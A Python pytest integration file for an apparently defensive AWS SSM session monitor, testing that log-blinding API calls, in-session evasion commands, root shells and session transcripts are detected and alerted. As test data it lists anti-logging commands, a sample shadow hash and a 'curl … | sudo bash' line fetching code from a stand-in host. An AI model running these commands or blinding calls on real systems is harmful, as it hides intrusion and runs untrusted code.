"""Making blinding visible, on the local stack: every blinding API call is routed by the template's
rules and alerted at its severity; blinding commands typed in a session are findings; a command
session that opens a shell is caught at start (both modes), and its end-of-session transcript is
judged when it arrives."""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from functions.command_monitor import app as monitor_app
from ssm_warden.clients import aws_client
from ssm_warden.config import reset_settings
from ssm_warden.models.actions import ActionKind, ActionRequest
from ssm_warden.models.findings import Severity
from ssm_warden.monitor.judging import batch_judge
from ssm_warden.policy.loader import bundled_policy_text
from ssm_warden.policy.store import reset_policy_cache
from ssm_warden_local.demo.patterns import matching_rules
from ssm_warden_local.resources import event_patterns
from tests.conftest import ACCOUNT, LambdaContext, load_event
from tests.integration.enforce.conftest import ADMIN, Warden
from tests.unit.logs.builders import encode

GROUP = "/aws/ssm/sessions"
MONITOR = "ssm-warden-CommandMonitorFunction-Ab12"
SWEEPER = "ssm-warden-SessionSweeperFunction-Cd34"
POLICY_PARAMETER = "/governance/warden-policy"
NAMES = {
    "WARDEN_FUNCTIONS": f"{MONITOR},{SWEEPER},ssm-warden-ActionExecutorFunction-Ef56",
    "COMMAND_MONITOR_FUNCTION": MONITOR,
    "AWS_LAMBDA_FUNCTION_NAME": "ssm-warden-SessionEventsFunction-Gh78",
    "WARDEN_RULES": "ssm-warden-session-calls,ssm-warden-tamper-calls,ssm-warden-tamper-watch",
    "WARDEN_SCHEDULES": "SessionSweeperFunctionEveryMinute",
    "SESSION_LOG_FILTER": "ssm-warden-CommandMonitorFunctionSessionLogs-Ij90",
    "WARDEN_STACK_NAME": "ssm-warden",
}
MONITOR_ARN = f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:{MONITOR}"
EVE = {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/eve", "accountId": ACCOUNT}
CLOUDFORMATION = {
    "type": "AssumedRole",
    "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/cfn-deployer/AWSCloudFormation",
    "accountId": ACCOUNT,
    "invokedBy": "cloudformation.amazonaws.com",
}


@pytest.fixture
def named(warden: Warden, monkeypatch: pytest.MonkeyPatch) -> Warden:
    """The stack with ssm-warden's resource names and a policy parameter, as the template sets them."""
    for key, value in NAMES.items():
        monkeypatch.setenv(key, value)
    aws_client("ssm").put_parameter(Name=POLICY_PARAMETER, Value=bundled_policy_text(), Type="String")
    monkeypatch.setenv("POLICY_PARAMETER", POLICY_PARAMETER)
    reset_settings()
    reset_policy_cache()
    return warden


_seq = iter(range(1, 10_000))


def api_call(
    source: str, name: str, params: dict[str, Any], identity: dict[str, Any] | None = None
) -> dict[str, Any]:
    """A CloudTrail call as EventBridge delivers it."""
    event = copy.deepcopy(load_event("start_session_shell.json"))
    event["source"] = "aws." + source.split(".", maxsplit=1)[0]
    event["detail"].update(
        eventSource=source,
        eventName=name,
        requestParameters=params,
        responseElements=None,
        userIdentity=identity or EVE,
        eventID=f"7a3e0000-0000-4000-8000-{next(_seq):012d}",
    )
    return event


def preferences(**inputs: object) -> str:
    base: dict[str, object] = {"cloudWatchLogGroupName": GROUP, "cloudWatchStreamingEnabled": True}
    base.update(inputs)
    return json.dumps({"schemaVersion": "1.0", "sessionType": "Standard_Stream", "inputs": base})


SSM, LOGS, TRAIL = "ssm.amazonaws.com", "logs.amazonaws.com", "cloudtrail.amazonaws.com"
LAMBDA, EVENTS, SCHEDULER = "lambda.amazonaws.com", "events.amazonaws.com", "scheduler.amazonaws.com"
PREFS = "SSM-SessionManagerRunShell"
BLINDING_CALLS = [
    (
        SSM,
        "UpdateDocument",
        {"name": PREFS, "content": preferences(cloudWatchStreamingEnabled="false")},
        Severity.CRITICAL,
    ),
    (
        SSM,
        "UpdateDocument",
        {
            "name": PREFS,
            "documentFormat": "YAML",
            "content": "inputs:\n  cloudWatchLogGroupName: /aws/ssm/sessions\n  cloudWatchStreamingEnabled: false\n",
        },
        Severity.CRITICAL,
    ),
    (
        SSM,
        "UpdateDocument",
        {"name": PREFS, "content": preferences(cloudWatchLogGroupName="/dev/null-group")},
        Severity.CRITICAL,
    ),
    (SSM, "DeleteDocument", {"name": PREFS}, Severity.CRITICAL),
    (
        SSM,
        "CreateDocument",
        {
            "name": "QuietShell",
            "documentType": "Session",
            "content": preferences(cloudWatchStreamingEnabled=False),
        },
        Severity.HIGH,
    ),
    (
        LOGS,
        "PutSubscriptionFilter",
        {
            "logGroupName": GROUP,
            "filterName": NAMES["SESSION_LOG_FILTER"],
            "filterPattern": '"nothing-matches-this"',
            "destinationArn": MONITOR_ARN,
        },
        Severity.CRITICAL,
    ),
    (
        LOGS,
        "PutSubscriptionFilter",
        {
            "logGroupName": GROUP,
            "filterName": NAMES["SESSION_LOG_FILTER"],
            "filterPattern": "",
            "destinationArn": f"arn:aws:lambda:us-east-1:{ACCOUNT}:function:sink",
        },
        Severity.CRITICAL,
    ),
    (
        LOGS,
        "DeleteSubscriptionFilter",
        {"logGroupName": GROUP, "filterName": NAMES["SESSION_LOG_FILTER"]},
        Severity.CRITICAL,
    ),
    (
        TRAIL,
        "PutEventSelectors",
        {
            "trailName": "org-trail",
            "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": True}],
        },
        Severity.CRITICAL,
    ),
    (TRAIL, "UpdateTrail", {"name": "org-trail", "isMultiRegionTrail": False}, Severity.HIGH),
    (EVENTS, "DisableRule", {"name": "ssm-warden-session-calls"}, Severity.CRITICAL),
    (EVENTS, "DeleteRule", {"name": "ssm-warden-tamper-calls"}, Severity.CRITICAL),
    (
        EVENTS,
        "RemoveTargets",
        {"rule": "ssm-warden-tamper-watch", "ids": ["SessionEventsFunctionTamperWatchLambdaTarget"]},
        Severity.CRITICAL,
    ),
    (
        EVENTS,
        "PutRule",
        {"name": "ssm-warden-session-calls", "eventPattern": '{"source": ["none"]}'},
        Severity.CRITICAL,
    ),
    (
        LAMBDA,
        "PutFunctionConcurrency20171031",
        {"functionName": MONITOR, "reservedConcurrentExecutions": 0},
        Severity.CRITICAL,
    ),
    (LAMBDA, "UpdateFunctionConfiguration20150331v2", {"functionName": MONITOR_ARN}, Severity.CRITICAL),
    (LAMBDA, "DeleteFunction20150331", {"functionName": SWEEPER}, Severity.CRITICAL),
    (
        SCHEDULER,
        "DeleteSchedule",
        {"name": "SessionSweeperFunctionEveryMinute", "groupName": "default"},
        Severity.CRITICAL,
    ),
    (
        SCHEDULER,
        "UpdateSchedule",
        {
            "name": "SessionSweeperFunctionEveryMinute",
            "state": "DISABLED",
            "scheduleExpression": "rate(1 minute)",
        },
        Severity.CRITICAL,
    ),
    (SSM, "PutParameter", {"name": POLICY_PARAMETER, "type": "String", "overwrite": True}, Severity.HIGH),
    (SSM, "DeleteParameter", {"name": POLICY_PARAMETER}, Severity.CRITICAL),
]


@pytest.mark.parametrize(
    ("source", "name", "params", "severity"),
    BLINDING_CALLS,
    ids=[f"{c[1]}-{i}" for i, c in enumerate(BLINDING_CALLS)],
)
def test_each_blinding_call_is_routed_and_alerted_at_its_severity(
    named: Warden, source: str, name: str, params: dict[str, Any], severity: Severity
) -> None:
    # Given a call that blinds session logging or ssm-warden, as CloudTrail delivers it
    event = api_call(source, name, params)
    # Then the template's tamper rule routes it to session_events
    assert "SessionEventsFunction.TamperSignals" in matching_rules(event_patterns(), event)
    # When it is delivered and the action queue is drained
    assert named.deliver(event)["alerts"] == 1
    named.run_executor()
    # Then one alert went out, at the severity the call deserves, naming who did it
    [delivered] = named.notifier.delivered
    assert delivered.action.kind is ActionKind.ALERT
    assert delivered.action.severity is severity
    assert "eve" in delivered.action.why
    assert delivered.action.rule_or_limit.startswith("tamper.")


def test_a_call_on_a_rule_is_seen_by_both_tamper_rules_and_alerted_once(named: Warden) -> None:
    # Given someone disables the tamper rule itself
    event = api_call(EVENTS, "DisableRule", {"name": "ssm-warden-tamper-calls"})
    rules = matching_rules(event_patterns(), event)
    # Then the second rule routes it too (the disabled one may not), and both deliveries make one alert
    assert set(rules) == {"SessionEventsFunction.TamperSignals", "SessionEventsFunction.TamperWatch"}
    for _ in rules:
        named.deliver(event)
    named.run_executor()
    assert [d.action.title for d in named.notifier.delivered] == ["ssm-warden rule disabled"]


def test_ssm_wardens_own_deployment_raises_nothing_but_the_deployment_is_reported(named: Warden) -> None:
    # Given a redeploy: CloudFormation updates ssm-warden's functions, rules, schedule and subscription
    deployment = [
        api_call(LAMBDA, "UpdateFunctionConfiguration20150331v2", {"functionName": MONITOR}, CLOUDFORMATION),
        api_call(EVENTS, "PutRule", {"name": "ssm-warden-tamper-calls"}, CLOUDFORMATION),
        api_call(SCHEDULER, "UpdateSchedule", {"name": "SessionSweeperFunctionEveryMinute"}, CLOUDFORMATION),
        api_call(
            LOGS,
            "PutSubscriptionFilter",
            {
                "logGroupName": GROUP,
                "filterName": NAMES["SESSION_LOG_FILTER"],
                "filterPattern": "",
                "destinationArn": MONITOR_ARN,
            },
            CLOUDFORMATION,
        ),
    ]
    assert [named.deliver(e)["alerts"] for e in deployment] == [0, 0, 0, 0]
    # And the change set that made them is one medium alert naming who deployed
    named.deliver(
        api_call(
            "cloudformation.amazonaws.com",
            "ExecuteChangeSet",
            {"stackName": "ssm-warden", "changeSetName": "c1"},
        )
    )
    named.run_executor()
    assert [(d.action.title, d.action.severity) for d in named.notifier.delivered] == [
        ("ssm-warden redeployed", Severity.MEDIUM)
    ]


def test_a_neighbouring_lambda_call_the_prefix_routes_is_judged_to_be_nothing(named: Warden) -> None:
    # DeleteFunctionEventInvokeConfig matches the DeleteFunction prefix; it is not a malformed event
    event = api_call(LAMBDA, "DeleteFunctionEventInvokeConfig20190925", {"functionName": MONITOR})
    assert named.deliver(event) == {"status": "tamper", "alerts": 0}


def test_deleting_the_policy_parameter_is_alerted_and_does_not_stop_ssm_warden(named: Warden) -> None:
    # Given the policy parameter is deleted (and the deletion is delivered)
    aws_client("ssm").delete_parameter(Name=POLICY_PARAMETER)
    assert named.deliver(api_call(SSM, "DeleteParameter", {"name": POLICY_PARAMETER}))["alerts"] == 1
    named.run_executor()
    assert [d.action.severity for d in named.notifier.delivered] == [Severity.CRITICAL]
    # Then sessions are still recorded and checked (the last valid policy stays in force)
    session_id = named.start(named.instance(Environment="prod"), reason=None)
    assert named.session(session_id).session_id == session_id


# ----------------------------------------------------------------------------- in-session commands
def _now() -> datetime:
    return datetime.now(UTC).replace(microsecond=0)


def streamed_payload(
    warden: Warden, session_id: str, target: str, batches: list[list[str]], first: int = 1
) -> dict[str, Any]:
    now = _now()
    events = []
    for i, lines in enumerate(batches):
        message = {
            "eventVersion": "1.0",
            "eventTime": (now + timedelta(seconds=i)).strftime("%Y-%m-%dT%H:%M:%SZ"),
            "awsRegion": "us-east-1",
            "target": {"id": target},
            "userIdentity": {"arn": ADMIN},
            "runAsUser": "ssm-user",
            "sessionId": session_id,
            "sessionData": lines,
        }
        ms = int((now + timedelta(seconds=i)).timestamp() * 1000)
        events.append(
            {
                "id": str(37_000_000_000_000_000_000 + first + i),
                "timestamp": ms,
                "message": json.dumps(message),
            }
        )
    return log_payload(session_id, events)


def log_payload(session_id: str, events: list[dict[str, Any]]) -> dict[str, Any]:
    return encode(
        {
            "messageType": "DATA_MESSAGE",
            "owner": ACCOUNT,
            "logGroup": GROUP,
            "logStream": session_id,
            "subscriptionFilters": [NAMES["SESSION_LOG_FILTER"]],
            "logEvents": events,
        }
    )


def queued_actions(warden: Warden) -> list[ActionRequest]:
    sqs = aws_client("sqs")
    out: list[ActionRequest] = []
    while True:
        messages = sqs.receive_message(QueueUrl=warden.queue, MaxNumberOfMessages=10).get("Messages", [])
        if not messages:
            return out
        for message in messages:
            out.append(ActionRequest.model_validate_json(message["Body"]))
            sqs.delete_message(QueueUrl=warden.queue, ReceiptHandle=message["ReceiptHandle"])


def live_session(warden: Warden, env: str, **start: Any) -> tuple[str, str]:
    target = warden.instance(Environment=env)
    session_id = warden.start(target, at=_now().strftime("%Y-%m-%dT%H:%M:%SZ"), **start)
    queued_actions(warden)  # what the start made (reason checks and the like) is not under test
    return session_id, target


PROMPT = "[ssm-user@ip-10-0-1-23 ~]$ "
BLINDING_COMMANDS = [
    ("stty -echo", "terminal-echo-off"),
    ("exec >/dev/null 2>&1", "shell-output-hidden"),
    ("exec &>/tmp/.out", "shell-output-hidden"),
    ("exec > >(cat >/dev/null)", "shell-output-hidden"),
    ("PS1=''", "prompt-emptied"),
    ("export PS2=", "prompt-emptied"),
    ("unset PROMPT_COMMAND", "prompt-command-tampered"),
    ('read -s c; eval "$c"', "hidden-input-evaluated"),
    ("set +o history", "history-cleared"),
    ("unset HISTFILE", "history-cleared"),
    (
        f"aws logs put-log-events --log-group-name {GROUP} --log-stream-name bob-0a1b2c3d4e5f60718 --log-events timestamp=1,message=x",
        "session-log-written",
    ),
    (
        f"aws logs create-log-stream --log-group-name {GROUP} --log-stream-name carol-0a1b2c3d4e5f60718",
        "session-log-written",
    ),
]


@pytest.fixture
def monitor(named: Warden) -> Warden:
    batch_judge.cache_clear()
    return named


@pytest.mark.parametrize(
    ("command", "rule"), BLINDING_COMMANDS, ids=[c[1] + ":" + c[0][:24] for c in BLINDING_COMMANDS]
)
def test_each_in_session_blinding_command_is_a_high_finding_that_ends_a_prod_session(
    monitor: Warden, command: str, rule: str
) -> None:
    # Given a prod shell session known to the ledger
    session_id, target = live_session(monitor, "prod")
    # When its stream shows the blinding command being typed
    monitor_app.lambda_handler(
        streamed_payload(monitor, session_id, target, [[f"{PROMPT}ls", "notes.txt", f"{PROMPT}{command}"]]),
        LambdaContext(),
    )
    # Then the command is a defense-evasion finding of at least high severity, acted on as prod says
    [action] = queued_actions(monitor)
    fired = {f.rule: f for f in action.findings}
    assert rule in fired, sorted(fired)
    assert fired[rule].severity.rank >= Severity.HIGH.rank
    assert fired[rule].category == "defense_evasion"
    assert action.kind is ActionKind.TERMINATE


def test_a_promptless_program_is_a_low_visibility_finding_recorded_not_posted(monitor: Warden) -> None:
    # Given a prod session (prod alerts on low findings)
    session_id, target = live_session(monitor, "prod")
    # When someone opens an editor, a pager and a multiplexer
    monitor_app.lambda_handler(
        streamed_payload(
            monitor,
            session_id,
            target,
            [
                [f"{PROMPT}vim /etc/nginx/nginx.conf"],
                [f"{PROMPT}journalctl -u nginx | less"],
                [f"{PROMPT}tmux"],
            ],
        ),
        LambdaContext(),
    )
    # Then each is a low "visibility reduced" finding on the session's audit trail, observed: the
    # default policy does not post everyday editing and paging to Slack, nor end the session
    assert queued_actions(monitor) == []
    found = [r for r in monitor.audit(session_id) if r.rule_or_limit == "promptless-program-entered"]
    assert len(found) == 3
    assert {(r.action, r.outcome, r.details["severity"]) for r in found} == {("observe", "observed", "low")}


def test_what_a_hidden_command_prints_still_gives_it_away(monitor: Warden) -> None:
    # Given a prod session where echo is turned off (which is itself a finding) before reading shadow
    session_id, target = live_session(monitor, "dev")
    shadow = "root:$6$Zq3x9aBc$GUVVaJVwVc8b0gYru7TwCgkw5B18RBvUMbGSea7ukCtrtib6UvXPqMCig6tIt85KnoPF6ICT8o60ooq1VuLWR.:19700:0:99999:7:::"
    monitor_app.lambda_handler(
        streamed_payload(
            monitor,
            session_id,
            target,
            [
                [f"{PROMPT}stty -echo"],
                # with echo off, nothing typed shows: the output starts right after the prompt
                [f"{PROMPT}{shadow}", "bin:*:19700:0:99999:7:::", f"{PROMPT}"],
            ],
        ),
        LambdaContext(),
    )
    rules = {f.rule for a in queued_actions(monitor) for f in a.findings}
    assert "terminal-echo-off" in rules
    # Then what it printed is caught: as a hash on screen, or as output where a command should be
    assert rules & {"output-password-hash", "echo-off-output-shown"}


# ----------------------------------------------------------------------------- unwatched shells
@pytest.mark.parametrize("monitor_mode", [False, True], ids=["enforce", "monitor"])
def test_a_command_session_that_opens_a_root_shell_is_caught_at_start(
    named: Warden, monkeypatch: pytest.MonkeyPatch, monitor_mode: bool
) -> None:
    if monitor_mode:
        monkeypatch.setenv("FORCE_MONITOR_MODE", "true")
        reset_settings()
    # Given an interactive-command session on a prod host whose command is a root shell
    session_id = named.start(
        named.instance(Environment="prod"),
        document="AWS-StartInteractiveCommand",
        parameters={"command": ["sudo su -"]},
    )
    named.run_executor()
    # Then the start check ends it (or, in monitor mode, says it would have)
    outcomes = dict(named.outcomes())
    assert outcomes["unwatched_shell"] == ("would_terminate" if monitor_mode else "terminated")
    assert named.status_at_aws(session_id) == ("Connected" if monitor_mode else "Terminated")
    [action] = [d.action for d in named.notifier.delivered if d.action.rule_or_limit == "unwatched_shell"]
    assert "sudo su -" in action.why


def test_a_command_session_running_a_plain_command_is_left_alone(named: Warden) -> None:
    named.start(
        named.instance(Environment="prod"),
        document="AWS-StartNonInteractiveCommand",
        parameters={"command": ["systemctl status nginx"]},
    )
    named.run_executor()
    assert "unwatched_shell" not in dict(named.outcomes())


def test_the_end_of_session_transcript_of_a_command_session_is_judged_when_it_arrives(
    monitor: Warden,
) -> None:
    # Given a dev interactive-command session that opened a shell (alerted at start, not ended)
    session_id, _target = live_session(
        monitor, "dev", document="AWS-StartInteractiveCommand", parameters={"command": ["bash"]}
    )
    # When the session ends and the agent uploads its plain-text transcript to the same stream name
    # (script's header and footer, \r\r\n line ends turned into \r\n, ANSI kept)
    transcript = (
        'Script started on 2026-12-01 19:30:00+00:00 [TERM="xterm-256color" TTY="/dev/pts/1" COLUMNS="200" LINES="50"]\r\n'
        "\x1b[?2004hssm-user@ip-10-0-1-23:/usr/bin$ id\r\n"
        "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)\r\n"
        "ssm-user@ip-10-0-1-23:/usr/bin$ curl -fsSL http://203.0.113.9/x.sh | sudo bash\r\n"
        "curl: (7) Failed to connect to 203.0.113.9 port 80\r\n"
        "ssm-user@ip-10-0-1-23:/usr/bin$ exit\r\n"
        "exit\r\n"
        '\r\nScript done on 2026-12-01 19:31:02+00:00 [COMMAND_EXIT_CODE="0"]\r\n'
    )
    ms = int(_now().timestamp() * 1000)
    monitor_app.lambda_handler(
        log_payload(
            session_id, [{"id": "37000000000000000000000000000001", "timestamp": ms, "message": transcript}]
        ),
        LambdaContext(),
    )
    # Then what was typed in the unwatched shell is judged: the download piped into a root shell
    findings = [f for a in queued_actions(monitor) for f in a.findings]
    assert any("203.0.113.9/x.sh" in f.command for f in findings), [f.command for f in findings]
